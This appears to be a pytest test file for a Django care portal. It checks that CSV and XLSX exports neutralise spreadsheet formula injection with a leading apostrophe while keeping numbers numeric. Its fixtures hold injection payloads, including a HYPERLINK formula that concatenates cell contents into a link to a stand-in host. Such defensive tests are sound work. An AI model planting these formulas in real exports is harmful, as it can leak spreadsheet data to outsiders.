"""Every CSV/XLSX the portal produces goes through care_portal.core.exports: text that a spreadsheet
would run as a formula comes back with a leading apostrophe, numbers stay numbers. Each export is
downloaded through its view, as the role that may download it, and read back."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from care_portal.comptes.roles import Role
from care_portal.core.exports import classeur_xlsx, lignes_csv, neutraliser
from tests.comptes.helpers import agent_verifie, creer_utilisateur_avec_role, region_de_test

FORMULES = ["=1+1", "+33 6 12 34 56 78", "-2", "@SUM(A1)", "\t=x", "\r=x"]


def lire_csv(reponse) -> list[list[str]]:
    texte = reponse.getvalue().decode("utf-8")
    assert texte.startswith("\ufeff")
    return list(csv.reader(io.StringIO(texte[1:], newline=""), delimiter=";"))


def lire_xlsx(reponse) -> list[tuple]:
    return list(load_workbook(io.BytesIO(reponse.content)).active.iter_rows(values_only=True))


def cellules_texte(rangees) -> set:
    return {v for r in rangees for v in r if isinstance(v, str)}


def verifier_neutralise(rangees) -> None:
    cellules = cellules_texte(rangees)
    for f in FORMULES:
        assert "'" + f in cellules, f
        assert f not in cellules, f
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cellules)


# --- the helper --------------------------------------------------------------------------------------

@pytest.mark.parametrize("valeur", FORMULES)
def test_neutraliser_le_texte_qui_ressemble_a_une_formule(valeur):
    assert neutraliser(valeur) == "'" + valeur


@pytest.mark.parametrize("valeur", ["Centre hospitalier", "", "1+1", " =1", "'=1", None, 3, -2, 1.5,
                                    Decimal("-12.50"), datetime.date(2025, 1, 2)])
def test_neutraliser_laisse_le_reste(valeur):
    assert neutraliser(valeur) is valeur


def test_csv_et_xlsx_du_helper():
    rangees = [["=HYPERLINK(\"http://x\"&C3,\"Justificatif\")", Decimal("-150.00"), datetime.date(2025, 3, 1)]]
    texte = "".join(lignes_csv(["Libellé", "Montant", "Date"], rangees))
    assert texte.startswith("\ufeffLibellé;Montant;Date\r\n")
    assert next(csv.reader(io.StringIO(texte.splitlines()[1]), delimiter=";"))[:2] == [
        "'=HYPERLINK(\"http://x\"&C3,\"Justificatif\")", "-150.00"]
    ws = load_workbook(io.BytesIO(classeur_xlsx(["Libellé", "Montant", "Date"], rangees + [["a\x00b", 1, None]]))).active
    ligne = [c for c in ws[2]]
    assert ligne[0].data_type == "s" and ligne[0].value.startswith("'=HYPERLINK")
    assert ligne[1].value == -150 and ligne[1].data_type == "n"
    assert ws["A3"].value == "ab"  # a control character XML forbids is dropped, the export does not fail


# --- the views ---------------------------------------------------------------------------------------

def _dossiers_aux_noms_pieges():
    from tests.factories import AppelFactory, CandidatureFactory, EntiteJuridiqueFactory

    appel = AppelFactory(code="care-d1-formules", nom="=HYPERLINK(\"http://x\",\"Appel\")")
    for nom in FORMULES:
        CandidatureFactory(appel=appel, structure=EntiteJuridiqueFactory(raison_sociale=nom, dep="33"))


@pytest.mark.django_db
@pytest.mark.parametrize("portee, role", [("national", Role.CONTROLEUR_ANS), ("region", Role.REFERENT_ARS)])
def test_exports_des_dossiers_neutralises(client, portee, role):
    _dossiers_aux_noms_pieges()
    region = region_de_test("33") if role == Role.REFERENT_ARS else None
    agent_verifie(client, creer_utilisateur_avec_role(role, region=region))
    reponse = client.get(reverse("notifications:export_dossiers", args=[portee, "csv"]))
    assert reponse.status_code == 200
    rangees = lire_csv(reponse)
    assert rangees[0][0] == "Région" and len(rangees) == 1 + len(FORMULES)
    verifier_neutralise(rangees)
    assert "'=HYPERLINK(\"http://x\",\"Appel\")" in cellules_texte(rangees)
    reponse = client.get(reverse("notifications:export_dossiers", args=[portee, "xlsx"]))
    assert reponse.status_code == 200
    rangees = lire_xlsx(reponse)
    verifier_neutralise(rangees)
    assert all(isinstance(r[7], int) for r in rangees[1:])  # the stage number stays a number


@pytest.mark.django_db
def test_export_financier_neutralise_et_montants_numeriques(client):
    from paiement.models import Paiement
    from tests.factories import AppelFactory
    from tests.paiement.paiements import agent, paiements_en_masse

    appel = AppelFactory(code="care-d1-formules", nom="=1+1", enveloppe=Decimal("1.00"))
    paiements_en_masse(len(Paiement.Etat.choices), appel)
    agent_verifie(client, agent())
    url = reverse("paiement:finances_export", args=["csv"]) + "?appel=care-d1-formules"
    rangees = lire_csv(client.get(url))
    assert rangees[1][:2] == ["enveloppe", "'=1+1"]
    assert rangees[1][3] == "1.00" and rangees[1][7].startswith("-")  # a number, not neutralised
    reponse = client.get(reverse("paiement:finances_export", args=["xlsx"]) + "?appel=care-d1-formules")
    enveloppe = lire_xlsx(reponse)[1]
    assert enveloppe[1] == "'=1+1"
    assert isinstance(enveloppe[7], int | float) and enveloppe[7] < 0  # negative Decimal → still a number


@pytest.mark.django_db
def test_modele_de_la_matrice_des_plafonds(client):
    agent_verifie(client, creer_utilisateur_avec_role(Role.ADMIN_ANS))
    rangees = lire_csv(client.get(reverse("paiement:plafonds_modele")))
    assert rangees[0] == ["type_structure", "activite_min", "activite_max", "montant"]
    assert rangees[1] == ["ght", "0", "1000000", "250000,00"] and len(rangees) == 6
